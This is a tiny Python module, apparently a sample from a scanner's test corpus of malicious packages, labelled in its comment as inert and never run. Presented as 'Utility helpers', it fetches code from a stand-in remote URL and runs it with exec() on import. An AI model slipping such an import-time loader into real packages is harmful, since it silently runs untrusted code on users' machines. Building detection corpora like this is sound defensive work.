# pkgguard corpus 011 (import-time), modelled on [empirical]; inert, never run.
"""Utility helpers."""
import urllib.request

exec(urllib.request.urlopen("https://cdn.example/loader.py").read())

__all__ = []
